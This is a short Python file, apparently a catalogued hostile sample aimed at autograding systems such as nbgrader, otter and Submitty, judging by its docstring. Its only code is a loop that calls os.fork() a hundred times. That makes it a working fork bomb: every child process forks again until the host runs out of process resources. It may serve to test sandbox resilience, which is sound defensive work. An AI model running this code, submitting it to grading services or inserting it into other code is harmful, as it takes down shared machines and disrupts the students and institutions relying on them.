"""A hundred forks, each of which forks on.

known: nbgrader, otter, Submitty, autograder-sandbox
place: everywhere
promise: same
reaches: the machine
stock: harm
"""

import os

for _ in range(100):
    os.fork()
